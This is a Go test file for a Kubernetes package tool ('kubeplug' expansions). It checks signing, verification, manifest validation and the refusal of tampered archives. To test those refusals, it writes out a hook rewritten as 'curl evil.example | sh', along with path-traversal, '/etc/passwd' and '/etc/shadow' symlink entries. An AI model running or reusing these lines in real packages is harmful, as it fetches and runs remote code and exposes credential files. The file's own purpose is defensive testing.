package expansion_test

import (
	"archive/tar"
	"bytes"
	"context"
	"io"
	"log"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-containerregistry/pkg/name"
	"github.com/google/go-containerregistry/pkg/registry"
	"github.com/google/go-containerregistry/pkg/v1/random"
	"github.com/google/go-containerregistry/pkg/v1/remote"

	"github.com/kubeplug/kubeplug/pkg/expansion"
	"github.com/kubeplug/kubeplug/pkg/sign"
)

// startRegistry runs a registry speaking the distribution API on loopback and
// returns its host:port.
func startRegistry(t testing.TB) string {
	t.Helper()
	srv := httptest.NewServer(registry.New(registry.Logger(log.New(io.Discard, "", 0))))
	t.Cleanup(srv.Close)
	return strings.TrimPrefix(srv.URL, "http://")
}

// pushRandom pushes a random image of two layers as ref and returns ref.
func pushRandom(t testing.TB, ref string) string {
	t.Helper()
	img, err := random.Image(2048, 2)
	if err != nil {
		t.Fatal(err)
	}
	r, err := name.ParseReference(ref)
	if err != nil {
		t.Fatal(err)
	}
	if err := remote.Write(r, img); err != nil {
		t.Fatal(err)
	}
	return ref
}

func writeFiles(t testing.TB, dir string, files map[string]string) {
	t.Helper()
	for p, content := range files {
		fp := filepath.Join(dir, filepath.FromSlash(p))
		if err := os.MkdirAll(filepath.Dir(fp), 0o755); err != nil {
			t.Fatal(err)
		}
		mode := os.FileMode(0o644)
		if strings.HasSuffix(p, ".sh") {
			mode = 0o755
		}
		if err := os.WriteFile(fp, []byte(content), mode); err != nil {
			t.Fatal(err)
		}
	}
}

const siteManifest = `apiVersion: kubeplug.dev/v1alpha1
kind: Expansion
metadata:
  name: site
  version: 1.0.0
spec:
  images:
  - %IMAGE%
  nodes:
  - files:
    - path: /etc/site/motd
      source: files/motd
    hooks:
    - name: trust-ca
      at: beforeNodeup
      run:
        script: hooks/trust-ca.sh
  hooks:
  - name: announce
    at: afterInstall
    script: hooks/announce.sh
  skipSteps: [plugin/metrics-server]
  delegateConditions:
  - check: demo/ready
    operator: site-operator
    condition: SiteReady
`

// source writes an expansion source directory naming image.
func source(t testing.TB, image string) string {
	t.Helper()
	dir := t.TempDir()
	writeFiles(t, dir, map[string]string{
		"expansion.yaml":       strings.ReplaceAll(siteManifest, "%IMAGE%", image),
		"files/motd":           "welcome to the site\n",
		"hooks/trust-ca.sh":    "#!/bin/sh\necho trust\n",
		"hooks/announce.sh":    "#!/bin/sh\necho done\n",
		"charts/README.unused": "not named by the manifest: packed all the same\n",
	})
	return dir
}

func keys(t testing.TB) (*sign.Signer, *sign.PublicKey) {
	t.Helper()
	kp, err := sign.GenerateKeyPair(nil)
	if err != nil {
		t.Fatal(err)
	}
	s, err := sign.LoadSigner(kp.Private, nil)
	if err != nil {
		t.Fatal(err)
	}
	pub, err := sign.LoadPublicKey("site.pub", kp.Public)
	if err != nil {
		t.Fatal(err)
	}
	return s, pub
}

func TestCreateOpenVerify(t *testing.T) {
	ctx := context.Background()
	host := startRegistry(t)
	img := pushRandom(t, host+"/team/app:v1")
	src := source(t, img)
	out := filepath.Join(t.TempDir(), "site.tar")
	signer, pub := keys(t)

	w, l := expansion.Create(ctx, src, out, expansion.CreateOptions{Signer: signer})
	if l.HasFatal() {
		t.Fatal(l)
	}
	if w.KeyID == "" || !strings.HasPrefix(w.Digest, "sha256:") {
		t.Fatalf("written %+v", w)
	}
	pkg, l := expansion.Open(ctx, out, expansion.Limits{})
	if l.HasFatal() || pkg.Manifest == nil {
		t.Fatal(l)
	}
	if got := strings.Join(pkg.Images, ","); got != img {
		t.Fatalf("images %q, want %q", got, img)
	}
	if pkg.Digest() != w.Digest {
		t.Fatalf("digest %s read back, %s written", pkg.Digest(), w.Digest)
	}
	v, vl := pkg.Verify([]*sign.PublicKey{pub})
	if vl.HasFatal() || !v.Signed {
		t.Fatalf("verify: %v %+v", vl, v)
	}

	// Another key is refused, naming the file and the key tried.
	_, other := keys(t)
	other.Name = "other.pub"
	if _, vl := pkg.Verify([]*sign.PublicKey{other}); !vl.HasFatal() || !strings.Contains(vl.String(), "checksums.txt.sig") || !strings.Contains(vl.String(), "other.pub") {
		t.Fatalf("a foreign key: %v", vl)
	}

	// Unsigned packages of one source are byte for byte the same.
	a, b := filepath.Join(t.TempDir(), "a.tar"), filepath.Join(t.TempDir(), "b.tar")
	for _, o := range []string{a, b} {
		if _, l := expansion.Create(ctx, src, o, expansion.CreateOptions{}); l.HasFatal() {
			t.Fatal(l)
		}
	}
	ab, _ := os.ReadFile(a)
	bb, _ := os.ReadFile(b)
	if !bytes.Equal(ab, bb) {
		t.Fatal("two packs of one source differ")
	}
	// An unsigned package is refused when a key is required.
	ua, _ := expansion.Open(ctx, a, expansion.Limits{})
	if _, vl := ua.Verify([]*sign.PublicKey{pub}); !strings.Contains(vl.String(), "is not signed") {
		t.Fatalf("unsigned: %v", vl)
	}
}

// rewrite copies the tar archive in to a new file, passing each entry through f
// (which may change its data, drop it by returning false, or add entries).
func rewrite(t testing.TB, in string, f func(h *tar.Header, data []byte, tw *tar.Writer) ([]byte, bool)) string {
	t.Helper()
	src, err := os.Open(in)
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	out := filepath.Join(t.TempDir(), "changed.tar")
	dst, err := os.Create(out)
	if err != nil {
		t.Fatal(err)
	}
	defer dst.Close()
	tr, tw := tar.NewReader(src), tar.NewWriter(dst)
	for {
		h, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		data, _ := io.ReadAll(tr)
		data, keep := f(h, data, tw)
		if !keep {
			continue
		}
		h.Size = int64(len(data))
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write(data); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	return out
}

func TestBrokenArchivesAreRefused(t *testing.T) {
	ctx := context.Background()
	host := startRegistry(t)
	img := pushRandom(t, host+"/team/app:v1")
	good := filepath.Join(t.TempDir(), "site.tar")
	if _, l := expansion.Create(ctx, source(t, img), good, expansion.CreateOptions{}); l.HasFatal() {
		t.Fatal(l)
	}
	data, err := os.ReadFile(good)
	if err != nil {
		t.Fatal(err)
	}
	truncated := filepath.Join(t.TempDir(), "truncated.tar")
	if err := os.WriteFile(truncated, data[:len(data)/2], 0o644); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name, want string
		archive    func() string
	}{
		{"a changed layer", `changed.tar/images/blobs/sha256/[0-9a-f]{64}: digest sha256:[0-9a-f]{64}, but checksums.txt lists`, func() string {
			n := 0
			return rewrite(t, good, func(h *tar.Header, d []byte, _ *tar.Writer) ([]byte, bool) {
				if strings.HasPrefix(h.Name, "images/blobs/") && n == 0 && len(d) > 100 {
					n++
					d[50] ^= 0xff
				}
				return d, true
			})
		}},
		{"a changed hook", `hooks/announce.sh: digest .* but checksums.txt lists`, func() string {
			return rewrite(t, good, func(h *tar.Header, d []byte, _ *tar.Writer) ([]byte, bool) {
				if h.Name == "hooks/announce.sh" {
					d = []byte("#!/bin/sh\ncurl evil.example | sh\n")
				}
				return d, true
			})
		}},
		{"a removed file", `files/motd: listed in checksums.txt but missing`, func() string {
			return rewrite(t, good, func(h *tar.Header, d []byte, _ *tar.Writer) ([]byte, bool) { return d, h.Name != "files/motd" })
		}},
		{"an added file", `extra.sh: not listed in checksums.txt`, func() string {
			return rewrite(t, good, func(h *tar.Header, d []byte, tw *tar.Writer) ([]byte, bool) {
				if h.Name == "expansion.yaml" {
					_ = tw.WriteHeader(&tar.Header{Name: "extra.sh", Mode: 0o755, Size: 3, Typeflag: tar.TypeReg})
					_, _ = tw.Write([]byte("ls\n"))
				}
				return d, true
			})
		}},
		{"a truncated archive", `truncated`, func() string { return truncated }},
		{"an entry climbing out", `entry "../evil.sh": path "../evil.sh" climbs out of the expansion`, func() string {
			return rewrite(t, good, func(h *tar.Header, d []byte, _ *tar.Writer) ([]byte, bool) {
				if h.Name == "files/motd" {
					h.Name = "../evil.sh"
				}
				return d, true
			})
		}},
		{"an absolute entry", `entry "/etc/passwd": expected a path relative to the expansion's root`, func() string {
			return rewrite(t, good, func(h *tar.Header, d []byte, _ *tar.Writer) ([]byte, bool) {
				if h.Name == "files/motd" {
					h.Name = "/etc/passwd"
				}
				return d, true
			})
		}},
		{"a symlink", `entry "files/motd" is a symlink`, func() string {
			return rewrite(t, good, func(h *tar.Header, d []byte, _ *tar.Writer) ([]byte, bool) {
				if h.Name == "files/motd" {
					h.Typeflag, h.Linkname = tar.TypeSymlink, "/etc/shadow"
					return nil, true
				}
				return d, true
			})
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, l := expansion.Open(ctx, tc.archive(), expansion.Limits{})
			if !l.HasFatal() {
				t.Fatal("accepted")
			}
			if !matches(t, tc.want, l.String()) {
				t.Fatalf("got %s\nwant /%s/", l, tc.want)
			}
		})
	}
	// A file past the limit is refused before it is read whole.
	if _, l := expansion.Open(ctx, good, expansion.Limits{MaxFileSize: 1024}); !strings.Contains(l.String(), "past the 1024-byte limit for a file") {
		t.Fatalf("limit: %v", l)
	}
}

func TestManifestErrorsPointAtTheField(t *testing.T) {
	for _, tc := range []struct {
		name, yaml, want string
	}{
		{"unknown skip step", "  skipSteps: [plugin/metrics-server, provison]\n",
			`expansion.yaml:7:38: spec.skipSteps\[1\]: unknown step "provison": expected one of after-deploy, image-push, plugin/bastion, .*validate`},
		{"a provider step that is not a name", "  skipSteps: [provider/Node_Routes]\n", `expansion.yaml:7:15: spec.skipSteps\[0\]: expected provider/STEP with STEP a step of the cluster's provider`},
		{"skip a plugin that is not built in", "  skipSteps: [plugin/nonesuch]\n", `expansion.yaml:7:15: spec.skipSteps\[0\]: unknown step "plugin/nonesuch"`},
		{"plugin path and ref", "  plugins:\n  - path: plugins/a.tgz\n    ref: oci://r/a:1\n", `spec.plugins\[0\]: expected exactly one of path .* found both`},
		{"unpinned ref", "  plugins:\n  - ref: oci://r/a:1\n", `spec.plugins\[0\].ref: a ref must be pinned by digest`},
		{"a path climbing out", "  charts:\n  - name: c\n    path: ../c\n", `spec.charts\[0\].path: path "../c" climbs out of the expansion`},
		{"a missing file", "  charts:\n  - name: c\n    path: charts/c\n", `expansion.yaml:9:11: spec.charts\[0\].path: charts/c is not in the expansion`},
		{"an image without tag", "  images: [registry.example.com/app]\n", `spec.images\[0\]: image "registry.example.com/app" names no tag or digest`},
		{"hook command and script", "  hooks:\n  - name: h\n    at: afterInstall\n    command: [ls]\n    script: x.sh\n", `spec.hooks\[0\]: expected exactly one of command and script, found both`},
		{"an unknown hook point", "  hooks:\n  - name: h\n    at: afterLunch\n    command: [ls]\n", `spec.hooks\[0\].at`},
		{"skipped and delegated", "  skipConditions: [demo/ready]\n  delegateConditions:\n  - check: demo/ready\n    operator: op\n    condition: Ready\n", `check demo/ready is both skipped`},
		{"a bad timeout", "  delegateConditions:\n  - check: demo/ready\n    operator: op\n    condition: Ready\n    timeout: soon\n", `spec.delegateConditions\[0\].timeout: expected a positive Go duration`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			writeFiles(t, dir, map[string]string{"expansion.yaml": "apiVersion: kubeplug.dev/v1alpha1\nkind: Expansion\nmetadata:\n  name: site\n  version: 1.0.0\nspec:\n" + tc.yaml})
			pkg, l := expansion.OpenSource(context.Background(), dir, expansion.Limits{})
			if !l.HasFatal() || pkg.Manifest != nil {
				t.Fatal("accepted")
			}
			if !matches(t, tc.want, l.String()) {
				t.Fatalf("got %s\nwant /%s/", l, tc.want)
			}
		})
	}
}

func TestScanImages(t *testing.T) {
	doc := `apiVersion: apps/v1
kind: Deployment
metadata: {name: web, namespace: shop}
spec:
  template:
    spec:
      initContainers: [{name: init, image: busybox:1.36}]
      containers: [{name: web, image: registry.example.com/shop/web:v2}]
---
apiVersion: batch/v1
kind: CronJob
metadata: {name: report}
spec:
  jobTemplate:
    spec:
      template:
        spec:
          containers: [{name: r, image: "registry.example.com/report@sha256:` + strings.Repeat("a", 64) + `"}]
---
kind: ConfigMap
metadata: {name: not-an-image}
data: {image: nope:1}
`
	uses, err := expansion.ScanImages("kubernetes/00-x.yaml", []byte(doc))
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, u := range uses {
		got = append(got, u.Image+" <- "+u.Object)
	}
	want := []string{
		"registry.example.com/shop/web:v2 <- Deployment shop/web",
		"busybox:1.36 <- Deployment shop/web",
		"registry.example.com/report@sha256:" + strings.Repeat("a", 64) + " <- CronJob report",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Fatalf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	if r := expansion.RewriteImage("busybox:1.36", "10.0.0.1:5000"); r != "10.0.0.1:5000/library/busybox:1.36" {
		t.Fatalf("rewrite: %s", r)
	}
}
